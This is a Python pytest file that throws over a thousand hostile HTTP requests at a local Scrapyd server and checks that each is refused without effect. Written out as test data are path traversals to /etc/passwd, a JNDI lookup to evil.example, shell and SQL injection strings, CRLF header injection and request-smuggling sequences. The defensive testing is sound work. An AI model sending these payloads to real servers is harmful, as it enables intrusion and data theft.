"""A thousand attacks on a real Scrapyd, over plain sockets: each is refused correctly, and none has an effect."""

import base64
import configparser
import contextlib
import gzip
import json
import random
import re
import socket
from concurrent.futures import ThreadPoolExecutor
from http.client import HTTPResponse
from pathlib import Path
from typing import NamedTuple
from urllib.parse import quote_from_bytes

import psutil
import pytest
from scrapy.utils.misc import load_object

from newsbot.hosting.names import is_dangerous
from newsbot.job import RUNNING

SEED = 3
ROOT = Path(__file__).parents[2]
CANARY = "the canary sings"
SCHEDULE = "- {name: yearly, spider: quick, cron: '0 0 1 1 *'}\n"

TRAVERSALS = [
    "../../canary",
    "..",
    ".",
    "a/../../canary",
    "/etc/passwd",
    "..\\..\\canary",
    "....//....//canary",
    "%2e%2e%2fcanary",
    "..%2fcanary",
    "%252e%252e%252fcanary",
    "\u2025/canary",  # two dots in one
    "\uff0e\uff0e\uff0fcanary",  # full width
    "..\u2215canary",
    "newsbot/../newsbot",
    "newsbot\u200b",
    "n\u0435wsbot",  # a Cyrillic letter
    "newsbot\n2026-01-01 [newsbot] INFO: forged",
    "newsbot\r\nSet-Cookie: a=b",
    "newsbot\x1b[2J",
    "newsbot'; DROP TABLE jobs; --",
    "newsbot\" OR ''='",
    "%s%s%s%n",
    "{0.__class__}",
    "${jndi:ldap://evil.example/a}",
    "$(touch canary)",
    "`touch canary`",
    "newsbot; touch canary",
    "<script>alert(1)</script>",
    "-rf",
    "--help",
    "CON:",
    "~root",
    "*",
    "a" * 129,
    "a" * 10_000,
    " newsbot",
    "newsbot ",
]


# Those that are dangerous as the name of a file; the others name a project that does not exist.
FILES = [name for name in TRAVERSALS if re.search(r"[/\\\n\r\x1b\u200b\u2025\uff0f]|^\.+$|.{251}", name)]
assert 10 < len(FILES) < len(TRAVERSALS)


class Attack(NamedTuple):
    """Bytes to send, and the statuses that refuse them: 200 stands for Scrapyd's `status: error` or `found nothing`."""

    raw: bytes
    statuses: tuple[int, ...]
    form: bool = True  # the answer is Scrapyd's JSON


def services():
    """Name of each call to its class."""
    config = configparser.RawConfigParser()
    config.read(ROOT / "scrapyd" / "scrapyd.conf")
    return {name: load_object(path) for name, path in config.items("services")}


CALLS = {name: call for name, call in services().items() if hasattr(call, "method")}
POSTS = [name for name, call in CALLS.items() if call.method == "POST"]


def parameters(name):
    """The names of a call's parameters."""
    return [field.alias or key for key, field in CALLS[name].query.model_fields.items()]


class Kit:
    """Makes the attacks: each public method is a class of them."""

    def __init__(self, scrapyd):
        self.random = random.Random(SEED)
        self.port = scrapyd.port
        self.right = self.basic(*scrapyd.auth)
        self.auth = scrapyd.auth

    @staticmethod
    def basic(username, password):
        return "Basic " + base64.b64encode(f"{username}:{password}".encode()).decode()

    def request(self, method, target, body=b"", kind="application/x-www-form-urlencoded", auth=True, **headers):
        """A request with the login, as bytes."""
        given = {"Host": f"127.0.0.1:{self.port}", "Connection": "close"}
        if auth:
            given["Authorization"] = self.right if auth is True else auth
        if method == "POST" or body:
            given |= {"Content-Type": kind, "Content-Length": str(len(body))}
        given |= {name.replace("_", "-"): value for name, value in headers.items()}
        head = "".join(f"{name}: {value}\r\n" for name, value in given.items() if value is not None)
        return f"{method} {target} HTTP/1.1\r\n{head}\r\n".encode("latin-1") + body

    def call(self, name, pairs, **options):
        """A request of a call, by its own method; names and values as text or bytes."""
        encoded = b"&".join(
            b"=".join(quote_from_bytes(part if isinstance(part, bytes) else part.encode()).encode() for part in pair)
            for pair in pairs
        )
        if CALLS[name].method == "POST":
            return self.request("POST", f"/{name}", encoded, **options)
        return self.request("GET", f"/{name}?{encoded.decode()}", **options)

    def rightly(self, name, but=None):
        """Parameters that would have an effect, one replaced or added."""
        known = {
            "project": "newsbot",
            "spider": "quick",
            "version": "1",
            "job": "steady",
            "name": "yearly",
            "egg": "x",
        }
        required = [field.alias or key for key, field in CALLS[name].query.model_fields.items() if field.is_required()]
        return list(({key: known[key] for key in required} | (but or {})).items())

    # Classes

    def wrong_methods(self):
        for name, call in CALLS.items():
            allowed = {"GET": ("GET", "HEAD"), "POST": ("POST",)}[call.method]
            for method in (
                "GET",
                "HEAD",
                "POST",
                "PUT",
                "DELETE",
                "PATCH",
                "TRACE",
                "PROPFIND",
                "get",
                "post",
                "X" * 99,
            ):
                if method not in allowed:
                    yield Attack(self.request(method, f"/{name}"), (405,), form=method != "HEAD")

    def without_a_password(self):
        raw = self.random.randbytes(6).hex()
        given = [None, "", "Basic", "Basic ", "Basic =", "Basic \xff\xfe", "Bearer " + raw, "Digest username=ann"]
        for name in CALLS:
            for auth in given:
                yield Attack(self.call(name, self.rightly(name), auth=False, Authorization=auth), (401,))
        for target in ("/", "/jobs", "/logs/", "/logs/newsbot/quick/done.log", "/none", "/../canary", "//", "/%00"):
            yield Attack(self.request("GET", target, auth=False), (401,))

    def wrong_passwords(self):
        user, password = self.auth
        pairs = [
            (user, ""),
            ("", password),
            (user, password[:-1]),
            (user, password + "x"),
            (user, password.upper()),
            (user, password + "\0"),
            (user + " ", password),
            (user.upper(), password),
            (password, user),
            (user, "x" * 5000),
            ("admin", "admin"),
            (user, "' OR 1=1 --"),
        ]
        for username, wrong in pairs:
            for name in self.random.sample(POSTS, 4):
                yield Attack(self.call(name, self.rightly(name), auth=self.basic(username, wrong)), (401,))

    def cross_site(self):
        own = f"127.0.0.1:{self.port}"
        headers = [
            {"Origin": "http://evil.example"},
            {"Origin": "null"},
            {"Origin": ""},
            {"Origin": "http://["},
            {"Origin": "\xff"},
            {"Origin": f"http://{own}.evil.example"},
            {"Origin": f"http://{own}@evil.example"},
            {"Origin": "http://127.0.0.1:1"},
            {"Origin": f"http://localhost:{self.port}"},
            {"Origin": f"file://{own}"},
            {"Origin": f"http://{own}\r\nOrigin: http://evil.example"},
            {"Sec_Fetch_Site": "cross-site"},
            {"Sec_Fetch_Site": "same-site"},
            {"Sec_Fetch_Site": "x"},
            {"Sec_Fetch_Site": "cross-site", "Origin": f"http://{own}"},
        ]
        for name in POSTS:
            for given in headers:
                yield Attack(self.call(name, self.rightly(name), **given), (403,))

    def names(self):
        for name in ("schedule.json", "cancel.json", "listversions.json", "delproject.json", "addversion.json"):
            for value in TRAVERSALS:
                statuses = (400,) if value in FILES else (200,)
                yield Attack(self.call(name, self.rightly(name, {"project": value})), statuses)
        for value in FILES:
            yield Attack(self.call("schedule.json", self.rightly("schedule.json", {"jobid": value})), (400,))
        # A version's egg is named by its letters, digits, _ and - alone.
        for name, parameter in (
            ("schedule.json", "_version"),
            ("listspiders.json", "_version"),
            ("delversion.json", "version"),
            ("addversion.json", "version"),
        ):
            for value in TRAVERSALS:
                yield Attack(self.call(name, self.rightly(name, {parameter: value})), (200, 400))
        free = [
            ("schedule.json", "spider", (200, 400)),
            ("cancel.json", "job", (200, 400)),
            ("cancel.json", "signal", (400,)),
            ("status.json", "job", (200, 400)),
            ("history.json", "spider", (200, 400)),
            ("history.json", "state", (400,)),
            ("pause.json", "name", (400, 404)),
            ("fire.json", "name", (400, 404)),
        ]
        for name, parameter, statuses in free:
            for value in TRAVERSALS:
                yield Attack(self.call(name, self.rightly(name, {parameter: value})), statuses)

    def settings(self):
        from scrapy.settings import default_settings

        from newsbot import settings

        names = {name for module in (default_settings, settings) for name in dir(module) if name.isupper()}
        for name in sorted(name for name in names if is_dangerous(name) and name[0] != "_"):
            yield Attack(self.call("schedule.json", [*self.rightly("schedule.json"), ("setting", f"{name}=x")]), (403,))
        for setting in (
            "",
            "X",
            "=",
            "=x",
            "a b=c",
            "-s=x",
            "--x=y",
            "../x=y",
            "ｘ=y",
            "x" * 500 + "=y",
            "A=" + "x" * 99_999,
        ):
            yield Attack(self.call("schedule.json", [*self.rightly("schedule.json"), ("setting", setting)]), (400,))

    def arguments(self):
        for name in ("settings", "name", "self", "cls", "crawler", "-a", "--x", "spider_name"):
            yield Attack(self.call("schedule.json", [*self.rightly("schedule.json"), (name, "x")]), (400,))
        for name in ("a=b", "catalogue=/etc/passwd", "", "x" * 500, "a\nb", "a\x1b[2J", "a\u202e"):
            yield Attack(self.call("schedule.json", [*self.rightly("schedule.json"), (name, "x")]), (400,))
        for value in ("/etc/passwd", "canary", "x.yaml"):
            yield Attack(self.call("schedule.json", [*self.rightly("schedule.json"), ("catalogue", value)]), (403,))
        for value in ("1e39", "inf", "nan", "x", "", "1e999", "[]", "0x1"):
            yield Attack(self.call("schedule.json", self.rightly("schedule.json", {"priority": value})), (400,))
        many = [(f"x{number}", "y") for number in range(1001)]
        yield Attack(self.call("schedule.json", [*self.rightly("schedule.json"), *many]), (400,))
        yield Attack(self.call("schedule.json", [*self.rightly("schedule.json"), ("x", "y" * 40_000)]), (400,))
        for name in CALLS:
            # Scrapyd's calls ignore unknown parameters, and crawl.json takes arguments of the spider.
            if not CALLS[name].lenient and name != "crawl.json":
                for parameter in ("project[]", "x", "egg;", "constructor", "-"):
                    yield Attack(self.call(name, [*self.rightly(name), (parameter, "x")]), (400,))
        for page in ("0", "-1", "1e9", "99999999999999999999", "x", "", "1 OR 1=1", "1.5"):
            yield Attack(self.call("history.json", [("page", page)]), (400,))
            yield Attack(self.call("history.json", [("limit", page)]), (400,))

    def bytes_that_are_no_text(self):
        bad = [b"\0", b"a\0b", b"\xff", b"\xc0\xae\xc0\xae", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80"]
        for name in CALLS:
            for value in bad:
                for parameter in parameters(name) or ["x"]:
                    if parameter != "egg":
                        given = [pair for pair in self.rightly(name) if pair[0] != parameter]
                        yield Attack(self.call(name, [*given, (parameter, value)]), (400,))
                yield Attack(self.call(name, [*self.rightly(name), (b"x" + value, "x")]), (400,))

    def paths(self):
        for base in ("/", "/logs/", "/logs/newsbot/", "/items/", "/logs/newsbot/quick/"):
            for path in ("../" * 5 + "etc/passwd", "..%2f" * 6 + "etc%2fpasswd", "%2e%2e/" * 5 + "etc/passwd"):
                yield Attack(self.request("GET", base + path), (400, 403, 404), form=False)
            for path in ("..%5c..%5ccanary", "%00", "canary%00.log", "%ff%fe", "%252e%252e/canary", "~root", "....//x"):
                yield Attack(self.request("GET", base + path), (400, 403, 404), form=False)
            yield Attack(self.request("GET", base + "x" * 5000), (404,), form=False)
        for path in ("none", "none.json", "favicon.ico", ".git/config", "scrapyd.conf", "login", "schedule.json.bak"):
            yield Attack(self.request("GET", f"/{path}"), (404,))
            yield Attack(self.request("POST", f"/{path}"), (404,))
        for name in CALLS:
            yield Attack(self.request(CALLS[name].method, f"/{name}/x"), (404,))
            yield Attack(self.request(CALLS[name].method, f"/{name}%2f..%2fx"), (404,))
            yield Attack(self.request(CALLS[name].method, f"//{name}"), (404, 405), form=False)

    def bodies(self):
        ask, parts = self.request, "multipart/form-data; boundary=x"
        for name in POSTS:
            huge = 70 << 20
            yield Attack(ask("POST", f"/{name}", Content_Length=str(huge)), (413,))
            yield Attack(ask("POST", f"/{name}", Content_Length="9" * 20), (413,))
            if name != "addversion.json":
                body = b"project=newsbot&x=" + b"y" * (1 << 20)
                yield Attack(ask("POST", f"/{name}", body), (413,))
                yield Attack(self.chunked(f"/{name}", body), (413,))
            zipped = gzip.compress(b"project=newsbot&x=" + b"y" * (1 << 20))
            yield Attack(ask("POST", f"/{name}", zipped, Content_Encoding="gzip"), (415,))
            yield Attack(ask("POST", f"/{name}", b"&".join([b"a=b"] * 5000)), (400,))
            # Not a form: nothing is given.
            told = json.dumps(dict(self.rightly(name))).encode()
            for kind in ("application/json", "text/plain", "application/xml", "", "multipart/mixed; boundary=x"):
                yield Attack(ask("POST", f"/{name}", told, kind), (200, 400))
            part = b'--x\r\nContent-Disposition: form-data; name="project"\r\n\r\nnewsbot\r\n'
            for body, kind in (
                (part + b"--x--\r\n", "multipart/form-data"),
                (part + b"--x--\r\n", "multipart/form-data; boundary="),
                (part + b"--x--\r\n", "multipart/form-data; boundary=y"),
                (part + b"--x--\r\n", f"multipart/form-data; boundary={'x' * 71}"),
                (part, parts),
                (part * 1100 + b"--x--\r\n", parts),
                (b"--x\r\n\r\nnewsbot\r\n--x--\r\n", parts),
                (
                    b"--x\r\nContent-Disposition: form-data\r\n\r\nnewsbot\r\n--x--\r\n",
                    "multipart/form-data; boundary=x",
                ),
                (b"--x\r\n" * 2000, parts),
                (b"", parts),
            ):
                yield Attack(ask("POST", f"/{name}", body, kind), (400,))
        yield Attack(self.chunked("/addversion.json", b"y" * (66 << 20)), (413,))
        for egg in (b"", b"PK\3\4", b"x" * 1000, self.random.randbytes(100_000)):
            body = b"".join(
                b'--x\r\nContent-Disposition: form-data; name="%b"\r\n\r\n%b\r\n' % pair
                for pair in ((b"project", b"newsbot"), (b"version", b"1"), (b"egg", egg))
            )
            yield Attack(ask("POST", "/addversion.json", body + b"--x--\r\n", parts), (200,))

    def chunked(self, target, body, size=1 << 16):
        head = self.request("POST", target, Content_Length=None, Transfer_Encoding="chunked")
        pieces = [body[place : place + size] for place in range(0, len(body), size)]
        return head + b"".join(b"%x\r\n%b\r\n" % (len(piece), piece) for piece in pieces) + b"0\r\n\r\n"

    def protocol(self):
        smuggled = self.call("schedule.json", self.rightly("schedule.json"))
        ask = self.request
        for length in ("5", "0", "-1", "+5", "5, 5", "0x5", "5_0", "x", "", "9" * 5000, "\xb2"):
            raw = ask("POST", "/daemonstatus.json", Content_Length=length, Transfer_Encoding="chunked")
            yield Attack(raw + b"0\r\n\r\n" + smuggled, (400,), form=False)
            raw = ask("POST", "/daemonstatus.json", Content_Length=f"{length}\r\nContent-Length: 6")
            yield Attack(raw + smuggled, (400,), form=False)
        for coding in ("gzip", "chunked, chunked", "identity, chunked", "xchunked", "chunked\x0b", "gzip, chunked"):
            raw = ask("POST", "/daemonstatus.json", Content_Length=None, Transfer_Encoding=coding)
            yield Attack(raw + b"0\r\n\r\n" + smuggled, (400,), form=False)
        for size in (b"-1", b"g", b"", b"0x1", b"1 1", b"1;" + b"x" * 5000):
            raw = ask("POST", "/daemonstatus.json", Content_Length=None, Transfer_Encoding="chunked")
            yield Attack(raw + size + b"\r\nx\r\n0\r\n\r\n" + smuggled, (400,), form=False)
        for line in (
            b"GET",
            b"GET /daemonstatus.json",
            b"GET /daemonstatus.json HTTP/0.9",
            b"GET /daemonstatus.json HTTP/3.0",
            b"PRI * HTTP/2.0",
            b"GET  /daemonstatus.json HTTP/1.1",
            b"GET /a b HTTP/1.1",
            b"GET /\xff HTTP/1.1",
            b"GET /\x00 HTTP/1.1",
            b"G\x00T / HTTP/1.1",
            b"G(T / HTTP/1.1",
            b" / HTTP/1.1",
            b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",  # TLS
        ):
            yield Attack(line + b"\r\n\r\n", (400,), form=False)
        for header in (
            b"no colon",
            b": empty",
            b"a b: c",
            b"X: a\x00b",
            b"X\x00: a",
            b"\xff: a",
            b"X" * 16_300 + b": a",
            b"X: " + b"a" * 16_300,
        ):
            yield Attack(ask("GET", "/daemonstatus.json")[:-2] + header + b"\r\n\r\n", (400,), form=False)
        yield Attack(ask("GET", "/daemonstatus.json")[:-2] + b"A: b\r\n" * 600 + b"\r\n", (400,), form=False)
        yield Attack(ask("GET", "/" + "x" * 20_000), (431,), form=False)
        yield Attack(ask("GET", "/daemonstatus.json", X="y" * 40_000), (431,), form=False)
        yield Attack(ask("GET", "/daemonstatus.json", Host="127.0.0.1\r\nHost: evil.example"), (400,))
        yield Attack(ask("GET", "http://evil.example/schedule.json"), (404,), form=False)


HELPERS = ("basic", "request", "call", "rightly", "chunked")
CLASSES = [name for name in vars(Kit) if name[0] != "_" and name not in HELPERS]


def answer_to(port, raw):
    """Status, headers and body."""
    # From many addresses, as each waits for its own wrong passwords only.
    source = f"127.0.0.{random.randint(2, 250)}", 0
    with socket.create_connection(("127.0.0.1", port), timeout=30, source_address=source) as connection:
        with contextlib.suppress(OSError):  # it was refused before all was sent
            connection.sendall(raw)
        answer = HTTPResponse(connection, method="HEAD" if raw.startswith(b"HEAD") else "GET")
        answer.begin()
        return answer.status, answer.headers, answer.read()


def fault(port, attack):
    """The fault of the answer; None without one."""
    try:
        status, headers, body = answer_to(port, attack.raw)
    except OSError as error:
        return f"no answer: {error!r}"
    if status not in attack.statuses:
        return f"{status}, not {attack.statuses}: {body[:200]}"
    if CANARY.encode() in body or b"root:x:0" in body or b"Traceback" in body:
        return f"it tells what it must not: {body[:200]}"
    if status == 405 and not headers["Allow"]:
        return "405 without Allow"
    if status == 401 and not headers["WWW-Authenticate"]:
        return "401 without WWW-Authenticate"
    if not attack.form:
        return None
    told = json.loads(body)
    nothing = [told.get(key) for key in ("prevstate", "currstate", "jobs")] in ([None] * 3, [None, None, []])
    if told["status"] != "error" and not (status == 200 and "jobid" not in told and nothing):
        return f"not refused: {told}"
    return None if told.get("node_name") and told.get("message", told["status"]) else f"not Scrapyd's form: {told}"


class World:
    """The state that no attack may change."""

    def __init__(self, scrapyd):
        self.scrapyd = scrapyd

    def seen(self):
        ask = self.scrapyd.get
        return {
            "jobs": self.scrapyd.jobs(),
            "status": ask("daemonstatus.json"),
            "versions": ask("listversions.json", project="newsbot"),
            "projects": ask("listprojects.json"),
            "schedules": ask("schedules.json"),
            "files": sorted(str(path) for path in self.scrapyd.folder.parent.rglob("*")),
        }


@pytest.fixture
def attacked(make_scrapyd, tmp_path):
    """A Scrapyd with an ended job, a running one, and a waiting one."""
    (tmp_path / "canary").write_text(CANARY)
    scrapyd = make_scrapyd(schedule=SCHEDULE, max_proc=1, allowed_settings="").start()
    scrapyd.wait_until(scrapyd.run("quick", jobid="done"))
    scrapyd.run("waits", jobid="steady", until=tmp_path / "never")
    scrapyd.wait_until("steady", RUNNING)
    scrapyd.run("quick", jobid="next")
    return scrapyd


def test_attacks(attacked):
    kit, world, process = Kit(attacked), World(attacked), psutil.Process(attacked.process.pid)
    before, memory = world.seen(), process.memory_info().rss
    total, faults = 0, []
    with ThreadPoolExecutor(8) as pool:
        for name in CLASSES:
            attacks = list(getattr(kit, name)())
            found = pool.map(lambda attack: fault(attacked.port, attack), attacks)
            faults += [
                f"{name}: {attack.raw[:300]!r}: {wrong}" for attack, wrong in zip(attacks, found, strict=True) if wrong
            ]
            total += len(attacks)
            assert world.seen() == before, f"{name} had an effect"
    assert not faults, f"{len(faults)} of {total}:\n" + "\n".join(faults[:40])
    assert total >= 1000
    said = attacked.said()
    assert "Traceback" not in said
    assert "Unhandled" not in said
    assert attacked.auth[1] not in said
    assert process.memory_info().rss - memory < 100 << 20
    assert attacked.get("health.json")["healthy"]
